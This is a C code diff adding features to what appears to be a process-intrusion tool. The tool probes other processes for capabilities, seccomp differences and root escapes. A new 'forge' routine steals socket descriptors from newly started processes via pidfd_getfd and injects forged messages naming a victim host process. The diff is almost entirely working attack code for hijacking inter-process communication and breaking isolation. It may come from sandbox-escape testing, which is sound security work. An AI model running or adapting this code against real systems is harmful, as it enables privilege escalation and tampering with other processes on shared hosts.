@@ -634,7 +634,7 @@ static unsigned long long field(int pid, const char *name)
 
 // prey is what was found in processes that were caught before they were the payload.
 static struct {
-	int caught, privileged, way_out, other_root, writable, secret, unfiltered;
+	int caught, privileged, way_out, other_root, writable, secret, unfiltered, terminal;
 } prey;
 
 // descend tries to get from a directory that a process has open to what is above it, and
@@ -688,6 +688,24 @@ static void search(int pid)
 	close(mem);
 }
 
+// has_terminal says whether a process has a controlling terminal, by its tty_nr.
+static int has_terminal(int pid)
+{
+	char path[64], line[512], *rest = NULL;
+	int tty = 0;
+	FILE *f;
+
+	snprintf(path, sizeof path, "/proc/%d/stat", pid);
+	f = fopen(path, "r");
+	if (f && fgets(line, sizeof line, f))
+		rest = strrchr(line, ')');
+	if (rest && sscanf(rest, ") %*c %*d %*d %*d %d", &tty) != 1)
+		tty = 0;
+	if (f)
+		fclose(f);
+	return tty != 0;
+}
+
 // inspect looks for what a caught process has and we have not.
 static void inspect(int pid)
 {
@@ -699,6 +717,7 @@ static void inspect(int pid)
 
 	if (field(pid, "CapPrm:") & ~field(getpid(), "CapBnd:") || field(pid, "CapEff:") & ~field(getpid(), "CapBnd:"))
 		prey.privileged++;
+	prey.terminal += has_terminal(pid);
 	if (field(getpid(), "Seccomp:") != field(pid, "Seccomp:"))
 		prey.unfiltered++;
 	snprintf(path, sizeof path, "/proc/%d/root", pid);
@@ -759,8 +778,51 @@ static int intrude(int seconds)
 				next = pid + 1;
 				break;
 			}
-	printf("next %d\ncaught %d\nprivileged %d\nwayout %d\nroot %d\nwritable %d\nsecret %d\nunfiltered %d\n", next, prey.caught,
-	       prey.privileged, prey.way_out, prey.other_root, prey.writable, prey.secret, prey.unfiltered);
+	printf("next %d\ncaught %d\nprivileged %d\nwayout %d\nroot %d\nwritable %d\nsecret %d\nunfiltered %d\nterminal %d\n", next, prey.caught,
+	       prey.privileged, prey.way_out, prey.other_root, prey.writable, prey.secret, prey.unfiltered, prey.terminal);
+	return 0;
+}
+
+// forge takes the conversation out of the hands of the next processes and says all there
+// is to say in it, naming a process of the host.
+static int forge(int victim, int seconds)
+{
+	time_t end = time(NULL) + seconds;
+	int taken = 0;
+
+	signal(SIGPIPE, SIG_IGN);
+	puts("ready");
+	fflush(stdout);
+	while (time(NULL) < end) {
+		int next = last() + 1, pidfd = -1, conn = -1;
+
+		for (int i = 0; pidfd < 0 && i < 20000; i++)
+			pidfd = (int)syscall(SYS_pidfd_open, next, 0);
+		for (int fd = 3; pidfd >= 0 && conn < 0 && fd < 8; fd++) {
+			socklen_t len = sizeof(int);
+			int type = 0;
+
+			conn = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+			getsockopt(conn, SOL_SOCKET, SO_TYPE, &type, &len);
+			if (conn >= 0 && type != SOCK_SEQPACKET) {
+				close(conn);
+				conn = -1;
+			}
+		}
+		if (conn >= 0) {
+			unsigned char m[6] = { 0, 0, (unsigned char)victim, (unsigned char)(victim >> 8), (unsigned char)(victim >> 16), 0 };
+
+			taken++;
+			for (int delay = 0; delay < 3; delay++) {
+				for (m[0] = 1; m[0] < 16; m[0]++)
+					send(conn, m, sizeof m, MSG_DONTWAIT);
+				usleep(20000);
+			}
+		}
+		close(conn);
+		close(pidfd);
+	}
+	printf("taken %d\n", taken);
 	return 0;
 }
 
@@ -825,6 +887,8 @@ static int act(char **a)
 		return leak(atoi(a[1]));
 	if (!strcmp(verb, "intrude") && a[1])
 		return intrude(atoi(a[1]));
+	if (!strcmp(verb, "forge") && a[1] && a[2])
+		return forge(atoi(a[1]), atoi(a[2]));
 	if (!strcmp(verb, "echo"))
 		return echo();
 	if (!strcmp(verb, "sys")) {
